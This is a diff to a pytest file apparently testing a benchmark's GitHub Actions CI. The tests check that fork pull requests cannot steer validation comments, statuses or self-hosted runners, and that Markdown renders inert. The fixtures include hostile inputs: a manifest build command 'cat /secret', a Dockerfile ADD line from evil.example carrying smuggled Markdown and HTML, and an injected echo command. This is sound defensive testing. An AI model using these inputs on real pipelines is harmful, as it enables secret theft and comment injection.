@@ -479,7 +479,7 @@ def test_no_workflow_a_pull_request_triggers_has_a_self_hosted_job():
 
 def test_a_fork_pull_request_schedules_nothing_self_hosted_and_a_token_asking_manifest_fails_in_one_line(act_repo):
     """Self-hosted jobs would run on an image that does not exist: any such job fails loudly."""
-    work, origin, shared = act_repo
+    work, _origin, shared = act_repo
     head = commit_agent(
         work,
         "leak",
@@ -503,44 +503,50 @@ def test_a_fork_pull_request_schedules_nothing_self_hosted_and_a_token_asking_ma
     assert "no-such-image" not in result.stdout + result.stderr, "no job was scheduled on self-hosted"
     errors = [line for line in result.stdout.splitlines() if "error: " in line and "GITHUB_TOKEN" in line]
     assert len(errors) == 1 and "env lists GITHUB_TOKEN, which an agent may not ask for" in errors[0]
-    report = json.loads((shared / "validation" / "report.json").read_text())
-    assert [(c["file"], c["ok"]) for c in report["checks"]] == [("agents/leak.yaml", False)]
+    assert not (shared / "validation").exists(), "the run hands nothing on: the comment workflow validates by itself"
 
 
-def test_a_forged_artifact_posts_only_on_the_pull_request_the_api_returns(act_repo):
+def test_the_comment_workflow_validates_the_prs_files_itself_and_ignores_any_artifact(act_repo):
+    """A fork's validation run can report anything (here, an artifact saying all is well, for
+    another PR): the comment and status come from the default branch's code on the PR's files at
+    its head SHA, read through the API, on the PR the API names."""
     from swechain_ci.models import ManifestCheck, ValidationReport
     from swechain_ci.records import write_model
 
-    work, origin, shared = act_repo
+    work, _origin, shared = act_repo
     head = "f" * 40
-    # The artifact claims PR 9 (the old pr.txt) and findings about PR 9's files, with Markdown in its text.
     (shared / "validation").mkdir()
     (shared / "validation" / "pr.txt").write_text("9\n")
     write_model(
         shared / "validation" / "report.json",
         ValidationReport(
-            checks=[
-                ManifestCheck(file="agents/lazy.yaml", because="agents/lazy.yaml", ok=False, error=INJECTION),
-                ManifestCheck(
-                    file="agents/victim.yaml", because="agents/victim.yaml", agent="victim", ok=False, error="x"
-                ),
-            ]
+            checks=[ManifestCheck(file="agents/lazy.yaml", because="agents/lazy.yaml", agent="lazy", ok=True)]
         ),
     )
     event = {
         "workflow_run": {
             "id": 99,
             "event": "pull_request",
-            "conclusion": "failure",
+            "conclusion": "success",
             "head_sha": head,
             "head_repository": {"full_name": "fork/bench"},
             "html_url": "http://results.example/99",
         }
     }
+    lazy = (
+        "schema_version: 1\nname: lazy\nkind: cli\ninstall: {dockerfile: lazy.Dockerfile}\n"
+        "commands: {build: 'cat /secret', fix: 'true'}\n"
+    )
     with FakeGitHub() as github:
         github.state.add_token(TOKEN, None)
-        github.state.add_pull(7, head, "fork/bench", files=["agents/lazy.yaml"])
+        github.state.add_pull(7, head, "fork/bench", files=["agents/lazy.yaml", "agents/lazy.Dockerfile"])
         github.state.add_pull(9, "9" * 40, "acme/bench", files=["agents/victim.yaml"])
+        github.state.add_file(head, "agents/lazy.yaml", lazy.encode())
+        github.state.add_file(
+            head,
+            "agents/lazy.Dockerfile",
+            b"ARG AGENT_IMAGE\nFROM ${AGENT_IMAGE}\nADD http://evil.example/Owned/![x](http://evil.example/x.png)@maintainers<b> /s\n",
+        )
         result = act(work, shared, "workflow_run", "agent-pr-comment.yml", event, github.url)
         assert result.returncode == 0, result.stdout[-5000:]
         assert github.state.comments_on(9) == [], "the PR the artifact names gets nothing"
@@ -550,9 +556,9 @@ def test_a_forged_artifact_posts_only_on_the_pull_request_the_api_returns(act_re
         event["workflow_run"]["event"] = "push"
         other = act(work, shared, "workflow_run", "agent-pr-comment.yml", event, github.url)
         assert other.returncode == 0 and len(github.state.comments) == 1
-    assert "victim" not in comment.body
+    assert "0 of 1 manifests valid" in comment.body and "lazy.Dockerfile line 3" in comment.body
     assert_inert(comment.body)
-    assert statuses == [(head, "failure")]
+    assert statuses == [(head, "failure")], "the artifact's ok decides nothing"
 
 
 @pytest.mark.docker
@@ -560,14 +566,14 @@ def test_a_maintainers_smoke_comment_runs_the_pr_agent_as_data_and_reports_inert
     """/smoke from a maintainer: the PR's manifest is read at its head SHA through the API, the
     run has no token and no secrets, and the agent's Markdown (in stop_reason) renders inert
     in the comment and the job summary; a status lands on the PR head."""
-    work, origin, shared = act_repo
+    work, _origin, shared = act_repo
     head = "e" * 40
     lazy = (
         f"schema_version: 1\nname: lazy\nkind: cli\ncommands: {{build: 'echo \"{INJECTION}\"; exit 3', fix: 'true'}}\n"
     )
     event = {
         "issue": {"number": 7, "pull_request": {"url": "http://api.example/pulls/7"}},
-        "comment": {"body": "/smoke", "user": {"login": "maint"}, "author_association": "MEMBER"},
+        "comment": {"body": f"/smoke {head}", "user": {"login": "maint"}, "author_association": "MEMBER"},
     }
     with FakeGitHub() as github:
         github.state.add_token(TOKEN, None)
